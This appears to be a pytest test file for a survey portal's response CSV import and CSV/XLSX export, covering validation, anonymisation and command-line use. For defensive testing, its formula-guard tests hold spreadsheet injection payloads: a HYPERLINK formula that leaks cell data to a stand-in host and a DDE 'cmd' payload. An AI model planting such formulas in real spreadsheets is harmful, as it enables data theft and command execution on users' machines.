"""Responses CSV import (all-or-nothing, every problem named) and CSV/XLSX export."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import func
from sqlalchemy import select

from portal.directory import services
from portal.extensions import db
from portal.models import Sector
from portal.spreadsheets import safe_cell
from portal.spreadsheets import unguard_cell
from surveys import transfer
from surveys.models import Answer
from surveys.models import Item
from surveys.models import ItemType
from surveys.models import Response
from surveys.models import Section
from surveys.models import Survey
from surveys.models import SurveyMode
from surveys.models import Wave

CODES = "clear_vision,influence,sectors,lead,comments,staff"
HEADER = f"respondent_id,organisation,{CODES}"

#: Written as the export writes it: labels, "\n" line endings, minimal quoting.
CANONICAL = (
    f"{HEADER}\n"
    "R1,X Lead Org,Strongly agree,Increased a little,Health|Housing,Yes,Good work,12\n"
    'R2,X Partner Org,Don\'t know,Decreased a lot,Justice,No,"Slow, but better",-3\n'
    "R3,,Disagree,,,,,\n"
    ',X Lead Org,Neither agree nor disagree,Stayed the same,,,"Two\nlines",2.5\n'
)


def _make_survey(
    slug: str = "partner-survey",
    *,
    partnership=None,
    programme=None,
    mode: SurveyMode = SurveyMode.IDENTIFIED,
) -> Survey:
    survey = Survey(
        slug=slug,
        title="Partner survey",
        mode=mode,
        partnership=partnership,
        programme=programme,
    )
    first = Section(survey=survey, position=1, title="Working together")
    second = Section(survey=survey, position=2, title="About you")
    specs = [
        (first, "clear_vision", ItemType.LIKERT, "agree5", ""),
        (first, "influence", ItemType.LIKERT, "increase5", ""),
        (first, "sectors", ItemType.MULTI, "", "Health|Justice|Housing"),
        (second, "lead", ItemType.SINGLE, "", "Yes|No"),
        (second, "comments", ItemType.TEXT, "", ""),
        (second, "staff", ItemType.NUMBER, "", ""),
    ]
    for position, (section, code, kind, scale, options) in enumerate(specs, 1):
        Item(
            survey=survey,
            section=section,
            position=position,
            code=code,
            text=f"Question {code}",
            type=kind,
            scale=scale,
            options=options,
        )
    for number in (1, 2):
        survey.waves.append(
            Wave(
                number=number,
                opens_on=date(2024, number, 1),
                closes_on=date(2024, number, 20),
            )
        )
    db.session.add(survey)
    db.session.commit()
    return survey


@pytest.fixture
def survey(world) -> Survey:
    """An identified partnership survey of partnership X with two waves."""
    return _make_survey(partnership=world["x"])


@pytest.fixture
def wave(survey) -> Wave:
    return survey.waves[0]


def _count_responses() -> int:
    return db.session.scalar(select(func.count(Response.id))) or 0


def _web_response(wave: Wave, organisation, answers: dict[Item, str]) -> Response:
    response = Response(
        wave_id=wave.id,
        organisation_id=organisation.id if organisation else None,
        partnership_id=wave.survey.partnership_id,
        submitted_on=wave.closes_on,
        answers=[
            Answer(item_id=item.id, value=value) for item, value in answers.items()
        ],
    )
    db.session.add(response)
    return response


def _items(survey: Survey) -> dict[str, Item]:
    return {item.code: item for item in survey.items}


# safe_cell ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(1,1)", "'+SUM(1,1)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ('=HYPERLINK("https://evil.example?x="&A1,"click")', "'=HYPERLINK("),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("-", "'-"),
        ("-3", "-3"),
        ("-2.5", "-2.5"),
        ("-0.5", "-0.5"),
        ("+4", "+4"),
        ("12", "12"),
        ("Strongly agree", "Strongly agree"),
        ("", ""),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value).startswith(expected)
    assert unguard_cell(safe_cell(value)) == value


# Checking ------------------------------------------------------------------------------


def test_labels_and_positions_are_both_accepted(wave):
    text = (
        "organisation,clear_vision,influence,sectors,lead,staff\n"
        "x lead org,1,5,health | JUSTICE,yes,7\n"
        "X PARTNER ORG,strongly DISAGREE,increased a lot,Housing|Health,NO,0\n"
        ",dk,don't know,,,\n"
    )
    check = transfer.check_responses_csv(wave, text)
    assert check.problems == []
    assert check.codes == ["clear_vision", "influence", "sectors", "lead", "staff"]
    first, second, third = check.rows
    assert (first.row, first.organisation, first.answer_count) == (2, "X Lead Org", 5)
    assert first.answers == {
        "clear_vision": "1",
        "influence": "5",
        "sectors": "Health|Justice",
        "lead": "Yes",
        "staff": "7",
    }
    assert second.answers["clear_vision"] == "5"
    assert second.answers["influence"] == "1"
    # Multi answers keep the questionnaire's order.
    assert second.answers["sectors"] == "Health|Housing"
    assert second.answers["lead"] == "No"
    assert (third.organisation, third.organisation_id) == ("", None)
    assert third.answers == {"clear_vision": "DK", "influence": "DK"}


def test_preview_rows(wave):
    check = transfer.check_responses_csv(wave, CANONICAL)
    assert check.is_valid
    assert [
        (row.row, row.respondent_id, row.organisation, row.answer_count)
        for row in check.rows
    ] == [
        (2, "R1", "X Lead Org", 6),
        (3, "R2", "X Partner Org", 6),
        (4, "R3", "", 1),
        # The quoted cell spans two lines of text but is one spreadsheet row.
        (5, "", "X Lead Org", 4),
    ]


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        (
            "respondent_id,clear_vision,colour\nR1,Agree,Blue\n",
            "Row 1, column colour: not an item code of survey partner-survey",
        ),
        (
            "clear_vision,influence,clear_vision\nAgree,,Agree\n",
            "Row 1, column clear_vision: the column appears more than once",
        ),
        (
            "respondent_id,Respondent_ID,clear_vision\nR1,R1,Agree\n",
            "Row 1, column Respondent_ID: the column appears more than once",
        ),
        (
            "wave,clear_vision\n1,Agree\n",
            "Row 1, column wave: import one wave at a time",
        ),
        (
            "clear_vision,,lead\nAgree,stray,Yes\n",
            "Row 1, column 2: the column has no name",
        ),
        (
            "respondent_id,organisation\nR1,X Lead Org\n",
            "Row 1: no column is an item code of the survey",
        ),
        ("", "The first row must name the columns"),
        ("clear_vision,lead\n", "The file has no rows of responses"),
        (
            "clear_vision\n" + "Agree\n" * 5 + "Agreed\n",
            "Row 7, column clear_vision: “Agreed” is not a point on the agree5 scale",
        ),
        (
            "clear_vision\nAgree\n6\n",
            "Row 3, column clear_vision: “6” is not a point on the agree5 scale",
        ),
        (
            "influence\nAgree\n",
            "Row 2, column influence: “Agree” is not a point on the increase5 scale",
        ),
        (
            "sectors\nHealth|Education\n",
            "Row 2, column sectors: “Education” is not one of the choices",
        ),
        ("lead\nYes|No\n", "Row 2, column lead: “Yes|No” is not one of the choices"),
        ("lead\nDon't know\n", "Row 2, column lead: “Don't know” is not one of"),
        ("staff\ntwelve\n", "Row 2, column staff: Enter a number"),
        (
            "organisation,clear_vision\nNowhere Ltd,Agree\n",
            "Row 2, column organisation: “Nowhere Ltd” is not a known organisation",
        ),
        (
            "respondent_id,clear_vision\nR1,Agree\nR2,Agree\nR1,Disagree\n",
            "Row 4, column respondent_id: “R1” is also on row 2",
        ),
        (
            f"respondent_id,clear_vision\n{'r' * 65},Agree\n",
            "Row 2, column respondent_id: must be 64 characters or fewer",
        ),
        (
            "clear_vision,lead\nAgree,Yes,surplus\n",
            "Row 2: has more cells than there are columns",
        ),
    ],
)
def test_problems_name_row_and_column(wave, text, problem):
    check = transfer.check_responses_csv(wave, text)
    assert not check.is_valid
    assert any(found.startswith(problem) for found in check.problems), check.problems


def test_every_problem_is_reported(wave):
    text = (
        "respondent_id,organisation,clear_vision,colour,staff\n"
        "R1,Nowhere Ltd,Agreed,Blue,many\n"
        "R1,X Lead Org,2,,3\n"
    )
    check = transfer.check_responses_csv(wave, text)
    assert check.problems == [
        "Row 1, column colour: not an item code of survey partner-survey",
        "Row 2, column organisation: “Nowhere Ltd” is not a known organisation",
        "Row 2, column clear_vision: “Agreed” is not a point on the agree5 scale",
        "Row 2, column staff: Enter a number, like 12 or 3.5",
        "Row 3, column respondent_id: “R1” is also on row 2",
    ]
    assert check.summary() == (
        "Row 1, column colour: not an item code of survey partner-survey (5 problems)"
    )


def test_byte_order_mark_blank_rows_and_trailing_cells_are_tolerated(wave):
    text = "\ufeffrespondent_id,clear_vision,\r\nR1,Agree,\r\n,,\r\n\r\nR2,4,\r\n"
    check = transfer.check_responses_csv(wave, text)
    assert check.problems == []
    assert [(row.row, row.respondent_id) for row in check.rows] == [
        (2, "R1"),
        (5, "R2"),
    ]


def test_a_wave_with_responses_refuses_another_import(wave):
    transfer.import_responses(wave, transfer.check_responses_csv(wave, CANONICAL))
    db.session.commit()
    check = transfer.check_responses_csv(wave, CANONICAL)
    assert check.problems == [
        "Wave 1 already has 4 responses; importing again would double them"
    ]
    with pytest.raises(transfer.ResponsesImportError):
        transfer.import_responses(wave, check)


# Importing ------------------------------------------------------------------------------


def test_import_saves_every_row(wave, world):
    check = transfer.check_responses_csv(wave, CANONICAL)
    assert transfer.import_responses(wave, check) == 4
    db.session.commit()
    responses = db.session.scalars(select(Response).order_by(Response.import_row)).all()
    assert [
        (r.import_row, r.external_id, r.submitted_on, r.partnership_id)
        for r in responses
    ] == [
        (2, "R1", date(2024, 1, 20), world["x"].id),
        (3, "R2", date(2024, 1, 20), world["x"].id),
        (4, "R3", date(2024, 1, 20), world["x"].id),
        (5, None, date(2024, 1, 20), world["x"].id),
    ]
    assert responses[0].organisation_id == world["x_lead"].id
    assert responses[2].organisation_id is None
    stored = {a.item.code: a.value for a in responses[1].answers}
    assert stored == {
        "clear_vision": "DK",
        "influence": "5",
        "sectors": "Justice",
        "lead": "No",
        "comments": "Slow, but better",
        "staff": "-3",
    }
    # Blank cells store nothing.
    assert [a.item.code for a in responses[2].answers] == ["clear_vision"]


def test_import_is_all_or_nothing(wave):
    text = CANONICAL + "R9,X Lead Org,Agreed,,,,,\n"
    check = transfer.check_responses_csv(wave, text)
    assert len(check.rows) == 5
    with pytest.raises(
        transfer.ResponsesImportError,
        match=r"^Row 6, column clear_vision: “Agreed”.*scale$",
    ):
        transfer.import_responses(wave, check)
    assert _count_responses() == 0
    assert db.session.scalar(select(func.count()).select_from(Answer)) == 0


def test_import_refuses_a_check_for_another_wave(survey):
    check = transfer.check_responses_csv(survey.waves[0], CANONICAL)
    with pytest.raises(transfer.ResponsesImportError, match="different wave"):
        transfer.import_responses(survey.waves[1], check)
    assert _count_responses() == 0


def test_programme_survey_finds_the_partnership_when_there_is_only_one(world):
    programme = services.create_programme(slug="rrcf", name="RRCF")
    one = services.create_partnership(slug="psp-a", name="PSP A", programme=programme)
    two = services.create_partnership(slug="psp-b", name="PSP B", programme=programme)
    single = services.create_organisation(
        name="Single PSP Org", sector=Sector.THIRD, partnership=one
    )
    both = services.create_organisation(
        name="Both PSPs Org", sector=Sector.PUBLIC, partnership=one
    )
    services.set_participation(two, both, role=both.participations[0].role)
    # A partnership outside the programme does not count.
    services.set_participation(world["x"], single, role=both.participations[0].role)
    survey = _make_survey("programme-survey", programme=programme)
    wave = survey.waves[0]
    text = "organisation,clear_vision\nSingle PSP Org,1\nBoth PSPs Org,2\n,3\n"
    transfer.import_responses(wave, transfer.check_responses_csv(wave, text))
    db.session.commit()
    responses = db.session.scalars(select(Response).order_by(Response.import_row))
    assert [r.partnership_id for r in responses] == [one.id, None, None]


# Exporting ------------------------------------------------------------------------------


def test_import_then_export_gives_back_the_same_bytes(survey, wave):
    transfer.import_responses(wave, transfer.check_responses_csv(wave, CANONICAL))
    db.session.commit()
    assert transfer.export_csv(survey, [wave]) == CANONICAL


def test_export_writes_labels_in_questionnaire_order(survey, wave, world):
    items = _items(survey)
    _web_response(
        wave,
        world["x_lead"],
        {items["staff"]: "4", items["clear_vision"]: "DK", items["influence"]: "2"},
    )
    db.session.commit()
    header, rows = transfer.export_rows(survey, [wave])
    assert header == [
        "respondent_id",
        "organisation",
        "clear_vision",
        "influence",
        "sectors",
        "lead",
        "comments",
        "staff",
    ]
    assert rows == [
        ["", "X Lead Org", "Don't know", "Increased a little", "", "", "", "4"]
    ]


def test_imported_rows_come_first_in_file_order(survey, wave, world):
    transfer.import_responses(wave, transfer.check_responses_csv(wave, CANONICAL))
    for _ in range(3):
        _web_response(wave, world["x_partner"], {})
    db.session.commit()
    _, rows = transfer.export_rows(survey, [wave])
    assert [row[0] for row in rows] == ["R1", "R2", "R3", "", "", "", ""]
    assert [row[1] for row in rows[4:]] == ["X Partner Org"] * 3


def test_several_waves_start_with_a_wave_column(survey, world):
    items = _items(survey)
    first, second = survey.waves
    _web_response(first, world["x_lead"], {items["clear_vision"]: "1"})
    _web_response(second, world["x_lead"], {items["clear_vision"]: "5"})
    db.session.commit()
    header, rows = transfer.export_rows(survey, [second, first])
    assert header[:3] == ["wave", "respondent_id", "organisation"]
    assert [(row[0], row[3]) for row in rows] == [
        ("1", "Strongly agree"),
        ("2", "Strongly disagree"),
    ]


def test_anonymous_export_hides_small_organisations_and_web_respondents(world):
    survey = _make_survey(
        "anon-survey", partnership=world["x"], mode=SurveyMode.ANONYMOUS
    )
    wave = survey.waves[0]
    items = _items(survey)
    for _ in range(5):
        _web_response(wave, world["x_lead"], {items["clear_vision"]: "2"})
    for _ in range(2):
        _web_response(wave, world["x_partner"], {items["clear_vision"]: "4"})
    db.session.commit()
    header, rows = transfer.export_rows(survey, [wave])
    # T31: answers and organisation only; no token, email, name, time or sequence.
    assert set(header) == {"respondent_id", "organisation"} | {
        item.code for item in survey.items
    }
    assert all(row[0] == "" for row in rows)
    by_answer = sorted((row[2], row[1]) for row in rows)
    assert by_answer == [("Agree", "X Lead Org")] * 5 + [("Disagree", "")] * 2
    # A smaller threshold shows the second organisation again.
    _, rows = transfer.export_rows(survey, [wave], min_group=2)
    assert {row[1] for row in rows} == {"X Lead Org", "X Partner Org"}


def test_anonymous_groups_are_counted_per_wave(world):
    survey = _make_survey(
        "anon-survey", partnership=world["x"], mode=SurveyMode.ANONYMOUS
    )
    first, second = survey.waves
    for _ in range(5):
        _web_response(first, world["x_lead"], {})
    _web_response(second, world["x_lead"], {})
    db.session.commit()
    _, rows = transfer.export_rows(survey, [first, second])
    assert [(row[0], row[2]) for row in rows] == [("1", "X Lead Org")] * 5 + [("2", "")]


def test_identified_export_always_names_the_organisation(survey, wave, world):
    _web_response(wave, world["x_partner"], {})
    db.session.commit()
    _, rows = transfer.export_rows(survey, [wave])
    assert rows[0][1] == "X Partner Org"


PAYLOADS = [
    "=1+1",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(A1:A2)",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
]


@pytest.fixture
def hostile(world) -> Survey:
    """A survey whose item code, organisation and answers look like formulas."""
    survey = _make_survey("hostile", partnership=world["x"])
    items = _items(survey)
    items["comments"].code = "=evil()"
    organisation = services.create_organisation(
        name='=HYPERLINK("https://evil.example")', sector=Sector.THIRD
    )
    wave = survey.waves[0]
    for payload in PAYLOADS:
        _web_response(wave, organisation, {items["comments"]: payload})
    _web_response(wave, organisation, {items["staff"]: "-5"})
    _web_response(wave, organisation, {items["staff"]: "-0.5"})
    _web_response(wave, organisation, {items["comments"]: "\t=1+1"})
    db.session.commit()
    return survey


def test_csv_export_guards_formulas_headers_included(hostile):
    text = transfer.export_csv(hostile, [hostile.waves[0]])
    records = list(csv.reader(io.StringIO(text)))
    header, rows = records[0], records[1:]
    assert header[6] == "'=evil()"
    comments = {row[6] for row in rows if row[6]}
    assert comments == {"'" + payload for payload in [*PAYLOADS, "\t=1+1"]}
    assert {row[1] for row in rows} == {'\'=HYPERLINK("https://evil.example")'}
    assert sorted(row[7] for row in rows if row[7]) == ["-0.5", "-5"]
    for record in records:
        for cell in record:
            assert not cell.startswith(("=", "+", "@", "\t", "\r"))


def test_xlsx_export_has_no_formula_cells(hostile):
    data = transfer.export_xlsx(hostile, [hostile.waves[0]])
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["Responses"]
    sheet = workbook["Responses"]
    header = [cell.value for cell in sheet[1]]
    assert header[6] == "'=evil()"
    assert all(cell.font.bold for cell in sheet[1])
    cells = [
        cell for row in sheet.iter_rows() for cell in row if cell.value is not None
    ]
    assert all(cell.data_type != "f" for cell in cells)
    comments = {cell.value for cell in sheet["G"][1:] if cell.value}
    assert comments == {"'" + payload for payload in [*PAYLOADS, "\t=1+1"]}
    numbers = sorted(cell.value for cell in sheet["H"][1:] if cell.value is not None)
    assert numbers == [-5, -0.5]
    assert all(cell.data_type == "n" for cell in sheet["H"][1:] if cell.value)
    # Everything else is text, even answers that look like numbers.
    assert all(cell.data_type == "s" for cell in sheet["B"])


def test_xlsx_round_trips_the_answers(survey, wave):
    transfer.import_responses(wave, transfer.check_responses_csv(wave, CANONICAL))
    db.session.commit()
    sheet = load_workbook(io.BytesIO(transfer.export_xlsx(survey, [wave])))["Responses"]
    values = [
        ["" if cell.value is None else cell.value for cell in row]
        for row in sheet.iter_rows()
    ]
    assert values[1] == [
        "R1",
        "X Lead Org",
        "Strongly agree",
        "Increased a little",
        "Health|Housing",
        "Yes",
        "Good work",
        12,
    ]
    assert values[2][7] == -3
    assert values[4][7] == 2.5


def test_guarded_cells_import_back_unchanged(survey, wave):
    text = "comments\n\"'=1+1\"\n'-2+3\n"
    check = transfer.check_responses_csv(wave, text)
    assert [row.answers["comments"] for row in check.rows] == ["=1+1", "-2+3"]


# Command line ---------------------------------------------------------------------------


@pytest.fixture
def cli(app):
    runner = app.test_cli_runner()

    def invoke(*args):
        result = runner.invoke(args=[str(arg) for arg in args])
        db.session.expire_all()
        return result

    return invoke


def test_cli_imports_and_exports(cli, survey, tmp_path):
    source = tmp_path / "wave1.csv"
    source.write_bytes(CANONICAL.encode())
    result = cli("surveys", "import-responses", "partner-survey", "--wave", 1, source)
    assert result.exit_code == 0, result.output
    assert result.output == "Imported 4 responses into wave 1 of partner-survey.\n"
    assert _count_responses() == 4

    result = cli("surveys", "export-responses", "partner-survey", "--wave", 1)
    assert result.exit_code == 0, result.output
    assert result.output == CANONICAL

    target = tmp_path / "out.xlsx"
    result = cli(
        "surveys",
        "export-responses",
        "partner-survey",
        "--wave",
        1,
        "--wave",
        2,
        "--format",
        "xlsx",
        "--output",
        target,
    )
    assert result.exit_code == 0, result.output
    sheet = load_workbook(target)["Responses"]
    assert [cell.value for cell in sheet[1]][:2] == ["wave", "respondent_id"]
    assert sheet.max_row == 5


@pytest.mark.parametrize(
    ("args", "content", "reason"),
    [
        (
            ("partner-survey", "--wave", 1),
            "clear_vision,colour\nAgreed,\n",
            "Error: Row 1, column colour: not an item code of survey partner-survey"
            " (2 problems)",
        ),
        (("nope", "--wave", 1), CANONICAL, "Error: no survey 'nope'"),
        (
            ("partner-survey", "--wave", 9),
            CANONICAL,
            "Error: survey 'partner-survey' has no wave 9",
        ),
    ],
)
def test_cli_import_failures_change_nothing(
    cli, survey, tmp_path, args, content, reason
):
    source = tmp_path / "responses.csv"
    source.write_bytes(content.encode())
    result = cli("surveys", "import-responses", *args, source)
    assert result.exit_code != 0
    assert result.output.strip().splitlines() == [reason]
    assert _count_responses() == 0


def test_cli_import_refuses_unreadable_files(cli, survey, tmp_path):
    source = tmp_path / "latin1.csv"
    source.write_bytes("organisation\nCaf\xe9\n".encode("latin-1"))
    result = cli("surveys", "import-responses", "partner-survey", "--wave", 1, source)
    assert result.exit_code != 0
    assert "latin1.csv: not UTF-8 text" in result.output
    missing = cli(
        "surveys", "import-responses", "partner-survey", "--wave", 1, tmp_path / "no"
    )
    assert missing.exit_code != 0
    assert "No such file or directory" in missing.output


def test_cli_import_twice_is_refused(cli, survey, tmp_path):
    source = tmp_path / "wave1.csv"
    source.write_bytes(CANONICAL.encode())
    args = ("surveys", "import-responses", "partner-survey", "--wave", 1, source)
    assert cli(*args).exit_code == 0
    again = cli(*args)
    assert again.exit_code != 0
    assert "Wave 1 already has 4 responses" in again.output
    assert _count_responses() == 4


def test_cli_export_unknown_wave(cli, survey):
    result = cli("surveys", "export-responses", "partner-survey", "--wave", 3)
    assert result.exit_code != 0
    assert "survey 'partner-survey' has no wave 3" in result.output
